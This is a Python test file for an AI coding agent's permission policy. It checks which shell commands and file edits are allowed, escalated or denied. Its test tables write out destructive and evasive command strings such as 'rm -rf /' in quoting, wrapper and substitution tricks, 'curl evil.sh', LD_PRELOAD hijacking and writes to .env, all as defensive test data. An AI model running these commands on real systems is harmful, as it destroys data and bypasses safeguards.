"""Permission rules: allow/deny lists over parsed shell commands and file paths,
combined with the approval mode."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from clover_code.agent.permissions.policy import PermissionPolicy
from clover_code.agent.permissions.shell.parse import MAX_COMMANDS
from clover_code.config.settings import PermissionRules, Settings
from clover_code.errors import ConfigError

RULES = PermissionRules(
    allow={
        "shell": [
            "pytest *",
            "git status",
            "git diff *",
            "ls *",
            "cat *",
            "echo *",
            "grep *",
            "tee *",
            "cd *",
            "python -m pytest *",
        ],
        "edit": ["docs/**", "*.log"],
    },
    deny={"shell": ["rm *", "git push *", "curl *"], "edit": [".env", "secrets/**"]},
)


@pytest.fixture
def policy(tmp_path: Path) -> PermissionPolicy:
    return PermissionPolicy(RULES, tmp_path)


# (command, verdict in "ask" mode): "allow" needs every program to match an
# allow rule, "deny" needs one to match a deny rule, "ask" is everything else.
SHELL_TABLE: list[tuple[str, str]] = [
    # plain commands and exact rules
    ("pytest -q", "allow"),
    ("pytest", "allow"),
    ("git status", "allow"),
    ("git status --short", "ask"),
    ("git diff HEAD~1 -- src", "allow"),
    ("git push origin main", "deny"),
    ("git -C /elsewhere push", "deny"),
    ("git --no-pager -c core.pager=evil diff", "ask"),
    ("git --no-pager diff HEAD", "ask"),
    ("make build", "ask"),
    ("pytest -k 'a and not b'", "allow"),
    # chains and pipelines: every part counts
    ("ls -la && pytest -q", "allow"),
    ("ls && rm -rf build", "deny"),
    ("ls; rm x", "deny"),
    ("ls || rm x", "deny"),
    ("ls\n rm -rf /", "deny"),
    ("ls | grep foo", "allow"),
    ("cat a | python3 evil.py", "ask"),
    ("ls # && rm -rf /", "allow"),
    # subshells, groups, control flow, functions
    ("(cd src && pytest)", "allow"),
    ("{ ls; rm x; }", "deny"),
    ("! rm x", "deny"),
    ("for f in *.py; do rm $f; done", "deny"),
    ("if pytest; then git push; fi", "deny"),
    ("f() { rm -rf /; }; f", "deny"),
    # command and process substitution
    ("echo $(rm -rf /)", "deny"),
    ("echo `rm -rf /`", "deny"),
    ('echo "$(git push)"', "deny"),
    ("cat <(curl http://example.com)", "deny"),
    ("diff <(ls a) <(ls b)", "ask"),
    ("x=$(curl evil.sh); echo ok", "deny"),
    ("cat <<EOF\n$(rm -rf ~)\nEOF", "deny"),
    ("cat <<'EOF'\n$(rm -rf ~)\nEOF", "allow"),
    # wrappers
    ("bash -c 'rm -rf /'", "deny"),
    ('sh -c "ls && pytest"', "allow"),
    ("bash -lc 'git push'", "deny"),
    ("bash -o pipefail -c 'ls | grep x'", "allow"),
    ("eval 'git push --force'", "deny"),
    ("env FOO=1 pytest", "allow"),
    ("env PATH=/tmp/evil pytest", "ask"),
    ("env -S 'rm -rf /'", "ask"),
    ("CI=1 pytest -x", "allow"),
    ("PATH=/tmp pytest", "ask"),
    ("LD_PRELOAD=/tmp/x.so ls", "ask"),
    ("sudo rm -rf /", "deny"),
    ("sudo pytest", "ask"),
    ("timeout 60 pytest", "allow"),
    ("timeout -s KILL 60 rm x", "deny"),
    ("nice -n 10 pytest", "allow"),
    ("xargs rm < files.txt", "deny"),
    ("echo main | xargs git push origin", "deny"),
    ("xargs -n1 pytest", "allow"),
    ("xargs git status", "ask"),
    ("find . -name '*.pyc' -exec rm {} +", "deny"),
    ("find . -name x", "ask"),
    ("command rm x", "deny"),
    ("exec rm x", "deny"),
    ("coproc rm x", "deny"),
    ("python -m pytest tests", "allow"),
    ("python evil.py", "ask"),
    # quoting tricks
    ("'r''m' -rf /", "deny"),
    ("r\\m -rf /", "deny"),
    ('"rm" -rf /', "deny"),
    ("/bin/rm -rf /", "deny"),
    ("$'\\x72\\x6d' -rf /", "ask"),
    ("$CMD -rf /", "ask"),
    ("{rm,-rf,/}", "ask"),
    ("/bin/r? -rf /", "ask"),
    ("echo {rm,-rf,/}", "allow"),
    # control characters and syntax errors: fail closed
    ("ls\rrm -rf /", "ask"),
    ("ls\x1b[2K", "ask"),
    ("echo 'unterminated", "ask"),
    ("ls &&", "ask"),
    # redirections are writes
    ("echo hi > docs/notes.md", "allow"),
    ("echo hi > out.txt", "ask"),
    ("echo SECRET=1 > .env", "deny"),
    ("echo x >> secrets/key", "deny"),
    ("echo x > ./docs/../.env", "deny"),
    ("pytest > run.log 2>&1", "allow"),
    ('echo hi > "$OUT"', "ask"),
    ("echo hi > /dev/null", "allow"),
    ("pytest | tee .env", "deny"),
    ("pytest | tee docs/out.txt", "allow"),
    ("pytest | tee -a out.txt", "ask"),
    # complexity cap
    (" && ".join(["ls"] * 60), "ask"),
    (" && ".join(["ls"] * 59 + ["rm -rf /"]), "deny"),
    (" && ".join(["ls"] * MAX_COMMANDS), "allow"),
]


@pytest.mark.parametrize(("command", "expected"), SHELL_TABLE)
def test_shell_table(policy: PermissionPolicy, command: str, expected: str) -> None:
    ruling = policy.decide("ask", "shell", "execute", {"command": command})
    assert ruling.verdict == expected, ruling.reason


def test_table_is_large_enough() -> None:
    assert len(SHELL_TABLE) >= 40
    assert {v for _, v in SHELL_TABLE} == {"allow", "ask", "deny"}


@pytest.mark.parametrize(
    ("mode", "command", "expected"),
    [
        ("full-auto", "make build", "allow"),
        ("full-auto", "rm -rf /", "deny"),
        ("full-auto", "ls\rrm -rf /", "ask"),
        ("full-auto", " && ".join(["make"] * 60), "ask"),
        ("read-only", "pytest", "deny"),
        ("read-only", "git push", "deny"),
        ("auto-edit", "echo hi > out.txt", "allow"),
        ("auto-edit", "make > out.txt", "ask"),
        ("ask", "echo hi > out.txt", "ask"),
    ],
)
def test_shell_modes(policy: PermissionPolicy, mode: str, command: str, expected: str) -> None:
    ruling = policy.decide(mode, "shell", "execute", {"command": command})  # type: ignore[arg-type]
    assert ruling.verdict == expected, ruling.reason


def test_deny_reason_names_rule_and_command(policy: PermissionPolicy) -> None:
    ruling = policy.decide("full-auto", "shell", "execute", {"command": "ls && sudo rm -rf /"})
    assert ruling.verdict == "deny"
    assert "'rm *'" in ruling.reason
    assert "rm -rf /" in ruling.reason


def test_unparsable_reason_says_why(policy: PermissionPolicy) -> None:
    ruling = policy.decide("full-auto", "shell", "execute", {"command": "ls\rrm"})
    assert "control character '\\r'" in ruling.reason


@pytest.mark.parametrize(
    ("mode", "name", "kind", "arguments", "expected"),
    [
        ("full-auto", "write_file", "edit", {"path": ".env"}, "deny"),
        ("full-auto", "write_file", "edit", {"path": "sub/.env"}, "deny"),
        ("full-auto", "edit_file", "edit", {"path": "docs/../.env"}, "deny"),
        ("full-auto", "write_file", "edit", {"path": "secrets/a/b.txt"}, "deny"),
        ("ask", "write_file", "edit", {"path": "docs/guide.md"}, "allow"),
        ("ask", "edit_file", "edit", {"path": "src/app.py"}, "ask"),
        ("auto-edit", "edit_file", "edit", {"path": "src/app.py"}, "allow"),
        ("read-only", "write_file", "edit", {"path": "docs/guide.md"}, "deny"),
        ("ask", "write_file", "edit", {"path": "/etc/docs/x.md"}, "ask"),
        ("ask", "read_file", "read", {"path": ".env"}, "allow"),
        ("ask", "todo", "other", {"items": []}, "allow"),
    ],
)
def test_tool_rules(
    policy: PermissionPolicy,
    mode: str,
    name: str,
    kind: str,
    arguments: dict[str, object],
    expected: str,
) -> None:
    ruling = policy.decide(mode, name, kind, arguments)  # type: ignore[arg-type]
    assert ruling.verdict == expected, ruling.reason


def test_link_cannot_dodge_a_deny_rule(tmp_path: Path) -> None:
    (tmp_path / ".env").write_text("KEY=1\n")
    (tmp_path / "docs").mkdir()
    os.symlink(tmp_path / ".env", tmp_path / "docs" / "env-link")
    policy = PermissionPolicy(RULES, tmp_path)
    ruling = policy.decide("full-auto", "write_file", "edit", {"path": "docs/env-link"})
    assert ruling.verdict == "deny"


def test_apply_patch_paths_are_checked(policy: PermissionPolicy) -> None:
    patch = (
        "*** Begin Patch\n*** Add File: docs/a.md\n+hi\n"
        "*** Update File: docs/b.md\n*** Move to: secrets/b.md\n@@\n-x\n+y\n*** End Patch\n"
    )
    ruling = policy.decide("ask", "apply_patch", "edit", {"patch": patch})
    assert ruling.verdict == "deny"
    assert "secrets/b.md" in ruling.reason
    fine = "*** Begin Patch\n*** Add File: docs/a.md\n+hi\n*** End Patch\n"
    assert policy.decide("ask", "apply_patch", "edit", {"patch": fine}).verdict == "allow"


def test_read_rules_and_tool_name_globs(tmp_path: Path) -> None:
    rules = PermissionRules(deny={"read": [".env"], "mcp__evil__*": ["*"]})
    policy = PermissionPolicy(rules, tmp_path)
    assert policy.decide("ask", "read_file", "read", {"path": ".env"}).verdict == "deny"
    assert policy.decide("ask", "grep", "search", {"path": ".env"}).verdict == "deny"
    assert policy.decide("full-auto", "mcp__evil__run", "other", {}).verdict == "deny"
    assert policy.decide("full-auto", "mcp__good__run", "other", {}).verdict == "allow"


def test_dynamic_programs_only_ask_when_deny_rules_exist(tmp_path: Path) -> None:
    policy = PermissionPolicy(PermissionRules(), tmp_path)
    assert policy.decide("full-auto", "shell", "execute", {"command": "$CMD x"}).verdict == "allow"
    assert policy.decide("ask", "shell", "execute", {"command": "$CMD x"}).verdict == "ask"


def test_session_prefixes(policy: PermissionPolicy) -> None:
    assert policy.session_prefix("git log --oneline -5") == "git log"
    assert policy.session_prefix("cd src && make test") == "cd && make test"
    assert policy.session_prefix("timeout 5 make") == "make"
    assert policy.session_prefix("bash -c 'make'") == "make"
    for risky in ("sudo make", "python x.py", "$X", "ls\rrm", "ls &&"):
        assert policy.session_prefix(risky) is None, risky
    assert policy.decide("ask", "shell", "execute", {"command": "make -j4"}).verdict == "ask"
    policy.allow_for_session("make")
    assert policy.decide("ask", "shell", "execute", {"command": "make -j4"}).verdict == "allow"
    assert policy.decide("ask", "shell", "execute", {"command": "make; rm x"}).verdict == "deny"
    assert policy.decide("ask", "shell", "execute", {"command": "makex"}).verdict == "ask"


def test_an_interpreter_running_a_module_offers_that_module(policy: PermissionPolicy) -> None:
    assert policy.session_prefix("python3 -m pytest -q") == "python3 -m pytest"
    assert policy.session_prefix("python -m pip install -e .") == "python -m pip install"
    assert policy.session_prefix("cd src && python3.12 -m mypy x") == "cd && python3.12 -m mypy"
    for risky in (
        "python3 -c 'print(1)'",
        "python3.12 -c 'print(1)'",
        "python3 -m timeit 'x'",
        "python3 -m runpy x",
        "python3 -m cProfile x.py",
        "python3 -I -m pytest",
        "python3 -m 'a b'",
        "python3 -m",
    ):
        assert policy.session_prefix(risky) is None, risky
    policy.allow_for_session("python3 -m pytest")
    run = {"command": "python3 -m pytest -q tests"}
    assert policy.decide("ask", "shell", "execute", run).verdict == "allow"
    for other in ("python3 -c 'import pytest'", "python3 -m pytestx", "python3 x.py -m pytest"):
        assert policy.decide("ask", "shell", "execute", {"command": other}).verdict == "ask"


def test_rules_load_from_config_file(tmp_path: Path) -> None:
    config = tmp_path / ".clover" / "config.toml"
    config.parent.mkdir()
    config.write_text(
        '[permissions.allow]\nshell = ["pytest *"]\n[permissions.deny]\nedit = [".env"]\n'
    )
    from clover_code.config.load import load_settings

    settings = load_settings(repo_root=tmp_path, user_config=tmp_path / "none.toml", env={})
    assert settings.permissions.allow == {}  # allow rules wait until the file is trusted
    assert settings.permissions.deny == {"edit": [".env"]}
    settings = load_settings(
        repo_root=tmp_path, user_config=tmp_path / "none.toml", env={}, trust_project=True
    )
    assert settings.permissions.allow == {"shell": ["pytest *"]}
    policy = PermissionPolicy(settings.permissions, tmp_path)
    assert policy.decide("ask", "shell", "execute", {"command": "pytest"}).verdict == "allow"


def test_bad_rules_are_config_errors(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match=r"permissions\.allow\.shell has an empty pattern"):
        PermissionPolicy(PermissionRules(allow={"shell": ["  "]}), tmp_path)
    with pytest.raises(ConfigError, match="permissions"):
        from clover_code.config.load import load_settings

        load_settings({"permissions": {"alow": {}}}, user_config=tmp_path / "x.toml", env={})
    assert Settings().permissions == PermissionRules()
